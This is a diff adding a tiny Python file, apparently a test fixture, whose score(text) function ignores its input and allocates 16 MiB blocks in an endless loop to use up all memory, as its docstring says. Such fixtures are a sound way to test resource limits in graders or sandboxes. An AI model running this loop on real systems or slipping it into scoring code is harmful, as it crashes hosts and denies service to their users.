@@ -1,0 +1,7 @@
+"""Takes all memory."""
+
+
+def score(text):
+    hoard = []
+    while True:
+        hoard.append(bytearray(1 << 24))
